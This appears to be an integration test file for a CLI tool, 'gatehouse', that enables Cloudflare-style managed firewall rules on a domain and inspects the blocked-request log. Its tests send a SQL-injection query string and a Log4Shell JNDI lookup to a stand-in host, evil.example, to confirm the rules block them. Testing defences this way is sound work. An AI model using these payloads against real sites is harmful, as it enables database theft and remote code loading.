/** `gatehouse protect` and the activity log, with real attacks through the edge. */
import { deepEqual, equal, match } from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { text } from 'node:stream/consumers';
import { after, before, test } from 'node:test';
import { fileURLToPath } from 'node:url';
import { eventually } from '../eventually.ts';
import { CliSite } from './cli-site.ts';

const main = fileURLToPath(new URL('../../src/program/cli/main.ts', import.meta.url));

let site: CliSite;
before(async () => {
  site = await CliSite.open();
});
after(async () => {
  await site[Symbol.asyncDispose]();
});

const attack = '/?q=1%20union%20select%20password%20from%20users';

test('gatehouse protect makes an attack be blocked, and events show and explain it', async () => {
  const { code, stdout, stderr } = await site.run(
    'protect',
    'shop.test',
    '--origin',
    site.originUrl,
    '--plan',
    'pro',
  );
  equal(code, 0, stderr);
  // The commands that it prints name the same server.
  match(
    stdout,
    /^\+ created the zone shop\.test\n {4}to undo: gatehouse zones delete shop\.test --yes --api http\S+\n/,
  );
  match(stdout, /to undo: gatehouse zones set-edge shop\.test --origin 'null' --api http\S+\n/);
  match(stdout, /See what is blocked: gatehouse events tail shop\.test --api http\S+\n$/);
  match(
    stdout,
    /Every request to shop\.test is now checked by the Cloudflare Managed Ruleset before it goes to http:/,
  );
  await eventually(async () => (await site.visit('shop.test', attack)) === 403, 'the attack is blocked');
  equal(await site.visit('shop.test', '/'), 200);
  let events: any[] = [];
  await eventually(async () => {
    events = await site.read('events', 'list', 'shop.test', '--where', 'action:eq:block');
    return events.length > 0;
  });
  const [event] = events;
  equal(event.clientRequestHTTPHost, 'shop.test');
  match(
    (await site.run('events', 'explain', event.id, '--zone', 'shop.test')).stdout,
    /^Blocked: .*\.\nblock by firewallManaged rule /,
  );
  const { stdout: exported } = await site.run('events', 'export', 'shop.test', '--format', 'csv');
  match(exported, /union%20select/);
  const [narrowest] = await site.read('events', 'exceptions', 'shop.test', event.id);
  await site.read('events', 'except', 'shop.test', event.id, '--id', narrowest.id);
  await eventually(async () => (await site.visit('shop.test', attack)) === 200, 'the exception lets it pass');
});

test('gatehouse events tail shows an attack as it happens, and ends after --limit', async () => {
  await site.run('protect', 'live.test', '--origin', site.originUrl, '--plan', 'pro');
  await eventually(async () => (await site.visit('live.test', attack)) === 403);
  const { api, token } = site.program.ready;
  const tail = spawn(process.execPath, [main, 'events', 'tail', 'live.test', '--limit', '1'], {
    env: { CLOUDFLARE_API_BASE_URL: api, CF_API_TOKEN: token, NO_COLOR: '1' },
    stdio: ['ignore', 'pipe', 'pipe'],
  });
  const stdout = text(tail.stdout);
  await once(tail.stderr, 'data');
  equal(await site.visit('live.test', `/login${attack}`), 403);
  match(await stdout, /^\S+Z {2}block +127\.0\.0\.1 {2}GET live\.test\/login\/ {2}firewallManaged: .*\n$/);
});

test('gatehouse protect can be repeated, and each step can be undone by what it printed', async () => {
  const [first] = await site.read('protect', 'again.test', '--origin', site.originUrl, '--plan', 'business');
  const [second] = await site.read('protect', 'www.again.test', '--origin', site.originUrl);
  deepEqual(
    second.steps.map(({ undo }: { undo?: string }) => undo),
    [undefined, undefined, undefined, undefined],
  );
  match(
    second.protection,
    /^Every request to www\.again\.test is now checked by the managed rulesets that the zone deploys/,
  );
  const undos = first.steps.map(({ undo }: { undo: string }) => undo).toReversed();
  equal(undos.length, 4);
  for (const undo of undos) {
    const words = undo.split(' ').map((word: string) => word.replaceAll("'", ''));
    const { code, stderr } = await site.run(...words.slice(1));
    equal(code, 0, `${undo}: ${stderr}`);
  }
  const zones = await site.read('zones', 'list', '--name', 'again.test');
  deepEqual(zones, []);
});

test('gatehouse protect deploys the Free Managed Ruleset on the free plan, and undoing it ends the protection', async () => {
  const [report] = await site.read('protect', 'free.test', '--origin', site.originUrl);
  match(report.protection, /by the Free Managed Ruleset .*--plan pro/);
  const path = '/?x=$%7Bjndi:ldap://evil.example/a%7D';
  await eventually(async () => (await site.visit('free.test', path)) === 403);
  const step = report.steps.find(({ did }: { readonly did: string }) => did.startsWith('deployed'));
  const words = step.undo.split(' ').slice(1);
  equal((await site.run(...words)).code, 0);
  await eventually(async () => (await site.visit('free.test', path)) === 200);
});

test('gatehouse protect says which option is missing or wrong', async () => {
  const cases: [args: string[], code: number, message: RegExp][] = [
    [['protect', 'x.test'], 2, /needs --origin: the URL of your application/],
    [['protect', 'x.test', '--origin', 'localhost:3000'], 2, /--origin must be a URL that begins with http/],
    [['protect', 'x.test', '--origin', 'http://x', '--plan', 'gold'], 2, /--plan must be free or pro/],
    [['protect', 'not a host', '--origin', 'http://x'], 3, /refused gatehouse protect: .*\(\d+\)\n {2}\w/],
  ];
  for (const [args, code, message] of cases) {
    const outcome = await site.run(...args);
    equal(outcome.code, code, outcome.stderr);
    match(outcome.stderr, message);
  }
  const silent = await site.runElsewhere(
    'protect',
    'x.test',
    '--origin',
    'http://x',
    '--api',
    'http://127.0.0.1:1/client/v4',
    '--token',
    't',
  );
  deepEqual([silent.code, /does not answer/.test(silent.stderr)], [4, true]);
});
